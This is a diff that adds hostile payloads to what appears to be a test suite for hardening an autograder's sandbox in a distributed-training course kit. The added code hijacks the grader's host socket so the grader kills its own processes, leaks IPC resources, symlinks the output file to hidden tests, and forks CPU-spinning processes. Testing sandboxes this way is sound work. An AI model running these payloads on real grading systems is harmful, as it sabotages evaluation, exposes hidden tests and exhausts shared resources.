@@ -247,3 +247,86 @@ FILES = PRELUDE + '''
 _open = [open(_o.devnull) for _ in range(100000)]
 _say("DONE", __NAME__)
 '''
+
+# put a proxy of our own where the grader's test process finds the rank host, answering every
+# request with the pids of the grader's own processes (which a grader acting on reported pids kills)
+PROXY = PRELUDE + '''
+_home = _o.environ.get("HOME", ".").rstrip("/")
+_victims = []
+for _c in _g.glob("/proc/[0-9]*/cmdline"):
+    try:
+        if b"autograder" in open(_c, "rb").read() or b"pytest" in open(_c, "rb").read():
+            _victims.append(int(_c.split("/")[2]))
+    except (OSError, ValueError):
+        pass
+for _sock in (_home + ".host.sock", _home + "/host.sock"):
+    try:
+        _o.rename(_sock, _sock + ".real")
+    except OSError:
+        continue
+    _srv = _s.socket(_s.AF_UNIX, _s.SOCK_STREAM)
+    _srv.bind(_sock)
+    _srv.listen(16)
+    if _o.fork() == 0:
+        from multiprocessing.connection import Connection as _C
+        from minitorch_dist.runtime.launching import plain as _plain
+        _o.setsid()
+        while True:
+            _conn = _C(_srv.accept()[0].detach())
+            try:
+                _conn.recv_bytes()
+                _conn.send_bytes(_plain.encode(("pids", _victims)))
+                _conn.send_bytes(_plain.encode(("pid", _victims[0] if _victims else 1)))
+            except Exception:
+                pass
+    _say("PROXIED", f"{_sock}: reports pids {_victims[:5]}")
+_say("DONE", __NAME__)
+'''
+
+# SysV shared memory, a message queue, semaphores and a /dev/shm file, left for the next student
+IPC = PRELUDE + '''
+import ctypes as _ct
+_libc = _ct.CDLL(None, use_errno=True)
+for _kind, _id in (("shm", _libc.shmget(0, 1 << 20, 0o1600)), ("msg", _libc.msgget(0, 0o1600)),
+                   ("sem", _libc.semget(0, 4, 0o1600))):
+    print(f"ATTACK-IPC-MADE: {_kind} {_id}", flush=True)
+try:
+    with open(f"/dev/shm/hostile-shm-{_o.getpid()}", "wb") as _f:
+        _f.write(b"x" * 4096)
+    print("ATTACK-IPC-MADE: /dev/shm file", flush=True)
+except OSError:
+    pass
+_say("DONE", __NAME__)
+'''
+
+# replace the rank host's output file (which the grader reads after the test) by a link to the
+# hidden tests, a FIFO and /dev/zero, then fail so that the output is shown
+HOSTOUT = PRELUDE + '''
+_home = _o.environ.get("HOME", ".").rstrip("/")
+_hidden = sorted(_g.glob(f"{_root}/tests/kit/fixtures/suite/*.py") + _g.glob("/tmp/autograder-kit-*/tests/kit/fixtures/suite/*.py"))
+for _out, _how in ((_home + ".host.out", "link"), (_home + "/host.out", "link"), (_home + ".host.out", "fifo")):
+    try:
+        if _o.path.lexists(_out):
+            _o.unlink(_out)
+        if _how == "fifo":
+            _o.mkfifo(_out)
+        else:
+            _o.symlink(_hidden[0] if _hidden else "/dev/zero", _out)
+        _say("LINKED", f"{_out} ({_how})")
+    except OSError:
+        pass
+print("ATTACK-DONE:", __NAME__, file=_y.stderr, flush=True)
+_o.write(2, b"hostile host output\\n")
+'''
+
+# many busy processes for as long as the test lets them live
+BUSY = PRELUDE + '''
+for _ in range(24):
+    if _o.fork() == 0:
+        _end = _t.time() + 40
+        while _t.time() < _end:
+            pass
+        _o._exit(0)
+_say("DONE", __NAME__)
+_t.sleep(15)
+'''
